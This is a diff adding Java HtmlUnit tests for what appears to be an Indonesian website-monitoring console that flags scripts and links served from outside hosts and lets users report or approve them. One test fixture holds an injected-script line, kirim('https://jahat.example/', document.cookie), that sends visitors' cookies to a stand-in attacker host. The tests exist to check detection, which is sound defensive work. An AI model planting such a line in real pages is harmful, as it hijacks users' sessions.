@@ -15,6 +15,7 @@ import java.time.Instant;
 import java.util.List;
 import java.util.Map;
 import java.util.zip.ZipInputStream;
+import org.htmlunit.html.HtmlCheckBoxInput;
 import org.htmlunit.html.HtmlFileInput;
 import org.htmlunit.html.HtmlForm;
 import org.htmlunit.html.HtmlPage;
@@ -49,7 +50,7 @@ final class WatchTest {
     String text = Browser.main(browser.get("/pantauan"));
     assertTrue(text.contains("Dapat dijangkau"), text);
     assertTrue(text.contains("HTTP 503"), text);
-    assertTrue(text.contains("2 perubahan"), text);
+    assertTrue(text.contains("4 perubahan"), text);
     assertTrue(text.contains("slot gacor hari ini"), text);
     assertTrue(text.contains("Urutan pembersihan"), text);
     assertTrue(text.contains("Tidak ditemukan tanda bukan berarti pasti bersih"), text);
@@ -212,6 +213,67 @@ final class WatchTest {
     assertTrue(text.contains("ns1.contoh.id ns2.contoh.id"), text);
     assertTrue(text.contains("berbeda 365 hari dari catatan"), text);
     assertTrue(text.contains("203.0.113.1"), text);
+  }
+
+  @Test
+  void changes_servedStranger_isShownApprovedAndReported() throws Exception {
+    String list = Browser.main(browser.get("/perubahan"));
+    assertTrue(list.contains("jahat.example/x.js"), list);
+    assertTrue(list.contains("Skrip dari host luar"), list);
+    assertTrue(list.contains("kirim('https://jahat.example/', document.cookie)"), list);
+    HtmlPage one =
+        (HtmlPage) browser.get("/perubahan").getAnchorByText("jahat.example/x.js").click();
+    String text = Browser.main(one);
+    assertTrue(text.contains("Halaman menjalankan skrip dari host luar."), text);
+    assertTrue(text.contains("https://jahat.example/x.js?v=1"), text);
+    assertTrue(text.contains("Tautan keluar: koran.example"), text);
+    Browser.submit(Browser.form(one, "/perubahan/sajian/temuan"));
+    assertEquals("served-change", server.console.watched.signals.getLast().intent());
+    HtmlPage after = Browser.submit(Browser.form(one, "/perubahan/sajian/setujui"));
+    assertTrue(Browser.main(after).contains("Disetujui dan dicatat"), Browser.main(after));
+    assertFalse(Browser.main(browser.get("/perubahan")).contains("jahat.example/x.js"));
+    assertTrue(Browser.main(browser.get("/perubahan/sajian")).contains("jahat.example/x.js"));
+  }
+
+  @Test
+  void served_list_showsWhatCameAndWent() throws Exception {
+    String text = Browser.main(browser.get("/perubahan/sajian"));
+    assertTrue(
+        text.contains("Skrip dari host luar: www.googletagmanager.com/gtag/js?id=G-1"), text);
+    assertTrue(text.contains("oleh budi"), text);
+    assertTrue(text.contains("Tautan keluar: koran.example"), text);
+  }
+
+  @Test
+  void served_approvedTwice_isRefused() throws Exception {
+    HtmlPage one = (HtmlPage) browser.get("/perubahan").getAnchorByText("koran.example").click();
+    HtmlForm form = Browser.form(one, "/perubahan/sajian/setujui");
+    Browser.submit(form);
+    assertTrue(Browser.main(Browser.submit(form)).contains("situs berubah sejak"));
+    assertEquals(
+        server.url("/perubahan"),
+        browser.get("/perubahan/sajian/rinci?id=tidak-ada").getUrl().toString());
+  }
+
+  @Test
+  void served_chosen_areApprovedTogether() throws Exception {
+    HtmlPage page = browser.get("/perubahan");
+    HtmlForm form = Browser.form(page, "/perubahan/sajian/setujui");
+    assertTrue(Browser.main(Browser.submit(form)).contains("Pilih sedikitnya satu"));
+    HtmlForm again = Browser.form(browser.get("/perubahan"), "/perubahan/sajian/setujui");
+    again.getInputsByName("sajian").forEach(box -> ((HtmlCheckBoxInput) box).setChecked(true));
+    Browser.submit(again);
+    assertTrue(Browser.main(browser.get("/perubahan")).contains("Tidak ada yang baru pada 2"));
+  }
+
+  @Test
+  void approve_all_coversFilesAndWhatIsServed() throws Exception {
+    HtmlPage page = browser.get("/perubahan");
+    HtmlForm form = page.getFirstByXPath("//form[input[@name='semua']]");
+    form.getInputByName("walau").setChecked(true);
+    String text = Browser.main(Browser.submit(form));
+    assertTrue(text.contains("Tidak ada yang baru pada 2"), text);
+    assertTrue(text.contains("Tidak ada perbedaan dengan acuan."), text);
   }
 
   @Test
